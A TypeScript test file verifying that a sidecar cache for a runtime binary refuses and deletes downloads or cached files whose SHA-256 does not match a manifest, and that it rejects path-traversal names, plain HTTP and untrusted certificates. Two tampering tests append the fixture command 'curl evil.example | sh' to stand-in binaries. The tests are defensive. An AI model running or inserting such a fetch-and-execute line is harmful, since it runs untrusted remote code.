// The runtime binary from a verified sidecar cache: a local HTTPS server serves a manifest and
// binaries; what does not hash to the manifest is refused and deleted, on download and on reuse.
import { execFile } from 'node:child_process';
import { createHash } from 'node:crypto';
import { appendFile, mkdtemp, readdir, readFile, rm } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import path from 'node:path';
import { promisify } from 'node:util';
import { makeTestTls, OPENSSL_MISSING, startLocalHttps, type LocalHttps, type TestTls } from '@open-cowork/testing';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { opencodeSourceSettings, platformKey, recheckRuntimeBinary, resolveOpencodeBinary, resolveRuntimeBinary, RuntimeErrorCode, sdkVersion, SIDECAR_MANIFEST_NAME } from '../src/index.js';

const run = promisify(execFile);
const sha256 = (data: Buffer | string) => createHash('sha256').update(data).digest('hex');
const key = platformKey(process.platform, process.arch);
const version = sdkVersion();
/** A stand-in binary for the hash checks: answers --version like OpenCode. */
const script = `#!/bin/sh\necho ${version}\n`;

describe.skipIf(OPENSSL_MISSING !== undefined)('sidecar cache', () => {
  let tls: TestTls;
  let server: LocalHttps;
  let real: Buffer;
  const dirs: string[] = [];
  const files = new Map<string, Buffer | string>();
  let manifest: Record<string, { file: string; sha256: string }> = {};

  beforeAll(async () => {
    tls = await makeTestTls();
    server = await startLocalHttps(tls);
    server.route(`/${SIDECAR_MANIFEST_NAME}`, (_req, res) => {
      res.writeHead(200, { 'content-type': 'application/json' });
      res.end(JSON.stringify({ opencode: { version, platforms: manifest } }));
    });
    server.handle((req, res) => {
      const body = files.get(new URL(req.url ?? '/', server.origin).pathname.slice(1));
      res.writeHead(body === undefined ? 404 : 200);
      res.end(body);
    });
    real = await readFile((await resolveOpencodeBinary()).path);
  }, 60_000);

  afterAll(async () => {
    await server?.close();
    for (const dir of dirs) await rm(dir, { recursive: true, force: true });
  });

  async function cacheDir(): Promise<string> {
    const dir = await mkdtemp(path.join(tmpdir(), 'oc-sidecar-'));
    dirs.push(dir);
    return dir;
  }

  function serve(file: string, body: Buffer | string, hash = sha256(body)) {
    files.set(file, body);
    manifest = { [key]: { file, sha256: hash } };
  }

  const downloaded = (dir: string, extra: object = {}) =>
    resolveRuntimeBinary({ source: 'downloaded', sidecar: { dir, baseUrl: server.origin, ca: tls.ca }, ...extra });

  it('downloads the real runtime, checks its hash, and the binary runs', async () => {
    serve('opencode-real', real);
    const dir = await cacheDir();
    const binary = await downloaded(dir);
    expect(binary).toMatchObject({ source: 'sidecar-cache', version, sha256: sha256(real) });
    expect(binary.path.startsWith(path.join(dir, 'opencode', version, key))).toBe(true);
    const { stdout } = await run(binary.path, ['--version']);
    expect(stdout.trim()).toBe(version);
    // The second resolution uses the cache (one binary download in all), after re-hashing it.
    server.requests.length = 0;
    await expect(downloaded(dir)).resolves.toMatchObject({ path: binary.path });
    expect(server.requests.map((request) => request.url)).toEqual([`/${SIDECAR_MANIFEST_NAME}`]);
  }, 120_000);

  it('refuses and deletes a download whose hash does not match the manifest', async () => {
    serve('opencode-tampered', `${script}curl evil.example | sh\n`, sha256(script));
    const dir = await cacheDir();
    await expect(downloaded(dir)).rejects.toMatchObject({ code: RuntimeErrorCode.SidecarRefused, message: expect.stringMatching(/refused and deleted/) });
    expect(await readdir(path.join(dir, 'opencode', version, key))).toEqual([]);
  });

  it('refuses and deletes a cached binary modified on disk, before use and before a relaunch', async () => {
    serve('opencode-script', script);
    const dir = await cacheDir();
    const binary = await downloaded(dir);
    await recheckRuntimeBinary(binary);
    await appendFile(binary.path, 'curl evil.example | sh\n');
    await expect(recheckRuntimeBinary(binary)).rejects.toMatchObject({ code: RuntimeErrorCode.SidecarRefused });
    expect(await readdir(path.dirname(binary.path))).toEqual([]);

    // The same with the next resolution: the modified cache file is not run.
    const again = await downloaded(dir);
    await appendFile(again.path, 'echo owned\n');
    await expect(downloaded(dir)).rejects.toMatchObject({ code: RuntimeErrorCode.SidecarRefused, message: expect.stringMatching(/was refused and deleted/) });
    expect(await readdir(path.dirname(again.path))).toEqual([]);
  });

  it('auto uses the cache only when the bundled package is missing', async () => {
    serve('opencode-script', script);
    const dir = await cacheDir();
    const sidecar = { dir, baseUrl: server.origin, ca: tls.ca };
    await expect(resolveRuntimeBinary({ source: 'auto', sidecar, env: {} })).resolves.toMatchObject({ source: expect.stringMatching(/^opencode-/) });
    const noPlatformPackage = (specifier: string) => {
      if (specifier.startsWith('opencode-')) throw new Error('not installed');
      return path.resolve(import.meta.dirname, '../../../node_modules', specifier);
    };
    await expect(resolveRuntimeBinary({ source: 'auto', sidecar, env: {}, resolvePackageJson: noPlatformPackage })).resolves.toMatchObject({ source: 'sidecar-cache' });
    await expect(resolveRuntimeBinary({ source: 'auto', sidecar: { dir }, env: {}, resolvePackageJson: noPlatformPackage })).rejects.toMatchObject({ code: RuntimeErrorCode.BinaryMissing });
  });

  it('refuses a manifest for another version, a file name with a folder, and a server that answers with an error', async () => {
    const dir = await cacheDir();
    manifest = { [key]: { file: '../../escape', sha256: sha256(script) } };
    await expect(downloaded(dir)).rejects.toMatchObject({ code: RuntimeErrorCode.SidecarRefused, message: expect.stringMatching(/plain file name/) });
    manifest = { [key]: { file: 'missing', sha256: sha256(script) } };
    await expect(downloaded(dir)).rejects.toMatchObject({ code: RuntimeErrorCode.SidecarUnavailable, message: expect.stringMatching(/HTTP 404/) });
    manifest = { 'plan9-mips': { file: 'x', sha256: sha256(script) } };
    await expect(downloaded(dir)).rejects.toMatchObject({ code: RuntimeErrorCode.BinaryMissing, message: expect.stringContaining(key) });
  });

  it('refuses plain http except to loopback, and a certificate it does not trust', async () => {
    const dir = await cacheDir();
    await expect(resolveRuntimeBinary({ source: 'downloaded', sidecar: { dir, baseUrl: 'http://example.com/sidecars' } })).rejects.toMatchObject({
      code: RuntimeErrorCode.SidecarRefused,
      message: expect.stringMatching(/https/),
    });
    expect(() => opencodeSourceSettings({ baseUrl: 'http://10.0.0.1/' }, {}, { cwd: dir, defaultDir: dir })).toThrow(/--sidecar-base-url.*https/);
    expect(() => opencodeSourceSettings({ baseUrl: 'http://127.0.0.1:9/' }, {}, { cwd: dir, defaultDir: dir })).not.toThrow();
    expect(() => opencodeSourceSettings({ source: 'cloud' }, {}, { cwd: dir, defaultDir: dir })).toThrow(/--opencode-source.*auto, bundled, downloaded, external/);
    expect(() => opencodeSourceSettings({ source: 'downloaded' }, {}, { cwd: dir, defaultDir: dir })).toThrow(/needs --sidecar-base-url/);
    // Without the test CA the local server's certificate is not trusted: nothing is fetched.
    await expect(resolveRuntimeBinary({ source: 'downloaded', sidecar: { dir, baseUrl: server.origin } })).rejects.toMatchObject({ code: RuntimeErrorCode.SidecarUnavailable });
  });
});
